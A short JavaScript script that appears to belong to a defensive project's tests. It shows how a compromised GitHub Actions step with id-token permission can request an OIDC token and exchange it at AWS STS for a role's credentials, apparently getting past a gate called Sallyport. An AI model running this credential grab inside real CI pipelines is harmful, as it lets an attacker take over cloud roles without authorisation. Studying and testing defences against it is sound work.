// What a compromised step can run, if the job has `id-token: write`: it asks GitHub for a token as the runner's own toolkit does, and goes to
// AWS with it, past Sallyport. Arguments: the role and the region. It is plain JavaScript without a package, as an attacker would have it.
const [, , role, region] = process.argv;
const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: bearer } = process.env;

const asked = await fetch(`${url}&audience=sts.amazonaws.com`, { headers: { authorization: `Bearer ${bearer}` } });
const { value } = await asked.json();
const reply = await fetch(`https://sts.${region}.amazonaws.com/`, {
  method: "POST",
  body: new URLSearchParams({
    Action: "AssumeRoleWithWebIdentity",
    Version: "2011-06-15",
    RoleArn: role,
    RoleSessionName: "innocent",
    WebIdentityToken: value,
  }),
});
const text = await reply.text();
const field = (name) => new RegExp(`<${name}>([^<]*)<`).exec(text)?.[1];
console.log(
  reply.ok
    ? `AWS answers ${reply.status}: credentials of ${field("Arn")}`
    : `AWS answers ${reply.status} ${field("Code")}: ${field("Message")}`,
);
process.exitCode = reply.ok ? 0 : 1;
